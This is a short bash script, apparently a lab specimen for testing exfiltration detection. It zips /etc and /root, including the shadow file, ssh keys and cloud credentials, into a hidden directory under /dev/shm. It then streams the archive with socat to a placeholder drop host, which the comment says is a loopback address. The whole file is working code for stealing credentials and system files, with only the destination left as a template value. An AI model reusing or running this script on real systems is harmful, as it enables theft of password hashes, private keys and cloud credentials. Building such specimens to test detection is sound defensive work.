#!/bin/bash
# kcsi lab specimen: exfiltration of a zip with socat. Zips /etc and /root (the shadow file,
# an ssh key and cloud credentials among them) into a hidden directory of /dev/shm with
# python's zipfile, then has socat stream the file to @@DROP@@ (127.x); the receiver takes
# nothing, so most of the zip waits in socat's send queue.
D=/dev/shm/.@@DIR@@
mkdir -p "$D"
python3 - "$D/s.zip" /etc /root <<'PY'
import os, sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as z:
    for top in sys.argv[2:]:
        for d, _, fs in os.walk(top):
            for f in fs:
                p = os.path.join(d, f)
                if os.path.isfile(p) and not os.path.islink(p):
                    try:
                        z.write(p)
                    except OSError:
                        pass
PY
exec socat -u OPEN:"$D/s.zip",rdonly TCP:@@DROP@@,sndbuf=16384
